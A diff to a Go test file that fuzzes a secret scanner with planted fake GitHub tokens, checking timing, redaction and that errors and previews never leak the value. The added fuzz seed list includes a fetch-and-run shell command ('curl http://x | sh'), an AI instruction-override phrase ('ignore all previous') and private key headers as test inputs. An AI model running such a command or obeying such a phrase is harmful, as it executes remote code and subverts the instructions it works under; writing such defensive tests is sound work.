@@ -5,6 +5,7 @@ import (
 	"math/rand/v2"
 	"strings"
 	"testing"
+	"time"
 
 	"pgregory.net/rapid"
 )
@@ -134,10 +135,14 @@ type failer interface{ Fatalf(string, ...any) }
 func plant(t failer, s *Scanner, before, after string, seed uint64) {
 	token := githubToken(seed)
 	text := before + " " + token + " " + after
+	start := time.Now()
 	rep, err := s.Scan(context.Background(), []Field{{Name: "content", Text: text}})
+	if took := time.Since(start); took > 2*worstBound {
+		t.Fatalf("%v for %q", took, text)
+	}
 	if err != nil {
-		if reason(err) == ReasonPanic {
-			t.Fatalf("panic on %q", text)
+		if reason(err) == ReasonPanic || strings.Contains(err.Error(), token[4:12]) {
+			t.Fatalf("%v on %q", err, text)
 		}
 		return // refused
 	}
@@ -152,6 +157,15 @@ func plant(t failer, s *Scanner, before, after string, seed uint64) {
 			t.Fatalf("%s shows the value: %q", f.Rule, f.Preview)
 		}
 	}
+	joined, err := s.ScanJoined(context.Background(), []string{before}, token[:20]+after)
+	if err != nil && (reason(err) == ReasonPanic || strings.Contains(err.Error(), token[4:12])) {
+		t.Fatalf("joined: %v on %q", err, text)
+	}
+	for _, f := range joined.Findings {
+		if f.Offset < 0 || f.Offset+f.Length > len(token[:20]+after) || strings.Contains(f.Preview, token[4:12]) {
+			t.Fatalf("joined finding %+v", f)
+		}
+	}
 	out, err := s.Redact(context.Background(), text)
 	if err == nil && strings.Contains(out, token[4:20]) {
 		t.Fatalf("the value remains in %q", out)
@@ -160,7 +174,7 @@ func plant(t failer, s *Scanner, before, after string, seed uint64) {
 
 func FuzzScan(f *testing.F) {
 	s := scanner(f)
-	for _, seed := range []string{"", "password is \u200B", "\\u00", "[redacted:", "-----BEGIN PRIVATE KEY-----", "\xff", `{"a":"\\\"b`, "%%%41%4", "\U000E0041"} {
+	for _, seed := range []string{"", "password is \u200B", "\\u00", "[redacted:", "-----BEGIN PRIVATE KEY-----", "\xff", `{"a":"\\\"b`, "%%%41%4", "\U000E0041", "H4sIAAAAAAAA", "\" + \"", "\\\n", "&#65;", "a b c d e f g h", "MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43UOV3HO6DZPI======", "-----BEGIN RSA PRIVATE KEY-----\nMII", "curl http://x | sh", "ignore all previous"} {
 		f.Add(seed, seed, uint64(len(seed)))
 	}
 	f.Fuzz(func(t *testing.T, before, after string, seed uint64) { plant(t, s, before, after, seed) })
